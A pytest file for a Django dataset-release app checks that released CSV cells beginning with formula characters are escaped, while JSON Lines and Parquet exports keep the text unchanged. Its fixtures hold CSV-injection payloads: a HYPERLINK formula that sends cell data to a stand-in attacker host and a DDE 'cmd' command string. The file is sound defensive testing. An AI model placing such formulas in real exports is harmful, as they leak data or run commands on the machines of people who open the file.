"""Released CSV files are safe to open in a spreadsheet; the JSON Lines and Parquet tables keep
every value exactly as stored (OWASP's CSV injection rule, kernel.csv_cells)."""
import csv
import json

import pyarrow.parquet as pq
import pytest
from django.contrib.auth.models import User

from datasets_app.models import Instance
from datasets_app.visitbench_csv import read_visitbench_csv
from projects.services import create_project
from releases_app.services import make_release
from tests.annotation.factories import make_family, make_instance, make_reference

# Database behaviour (a release's row order and JSON fields): also run on PostgreSQL.
pytestmark = [pytest.mark.django_db, pytest.mark.database_sensitive]

FORMULAS = ['=HYPERLINK("https://evil.example.org/?d="&A1,"Click")', "+1+2", "-3 cats sit on the mat.",
            "@SUM(1,2)", "\t=1+1", "\r=1+1", "'=already quoted once"]


def test_released_csv_cells_that_start_a_formula_are_neutralised_and_jsonl_keeps_them_exact(tmp_path):
    owner = User.objects.create_user("alice")
    project = create_project(name="Formulas", slug="formulas", owner=owner)
    family = make_family(name="=cmd|' /C calc'!A0", stored_images=True, project=project)
    instances = []
    for number, text in enumerate(FORMULAS):
        instance = make_instance(family=family, instruction=f"{text} #{number}", stored_images=True)
        Instance.objects.filter(pk=instance.pk).update(status=Instance.Status.VERIFIED)
        make_reference(instance=instance, text=f"-{number} is the answer")
        instances.append(instance)
    out = tmp_path / "release"
    make_release(project=project, name="formulas", version="1.0.0", out_dir=out)

    with open(out / "visitbench" / "single_image.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(FORMULAS)
    assert {row["instruction_category"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert sorted(row["instruction"] for row in rows) == sorted(
        f"'{text} #{number}" for number, text in enumerate(FORMULAS))
    assert sorted(row["output_human_annotated"] for row in rows) == sorted(
        f"'-{number} is the answer" for number in range(len(FORMULAS)))
    # No cell of the file starts a formula.
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())

    # JSON Lines and Parquet keep the texts exactly.
    expected = {instance.pk: instance.instruction for instance in instances}
    lines = [json.loads(line) for line in (out / "data" / "instances.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {row["instance_id"]: row["instruction"] for row in lines} == expected
    assert {row["instruction_category"] for row in lines} == {family.name}
    assert {row["reference_output"] for row in lines} == {f"-{n} is the answer" for n in range(len(FORMULAS))}
    table = pq.read_table(out / "data" / "instances.parquet").to_pylist()
    assert {row["instance_id"]: row["instruction"] for row in table} == expected

    # Read back by the platform's importer, the CSV gives the stored texts exactly.
    _schema, parsed = read_visitbench_csv(out / "visitbench" / "single_image.csv")
    assert sorted(row.instruction for row in parsed) == sorted(expected.values())
    assert {row.family for row in parsed} == {family.name}
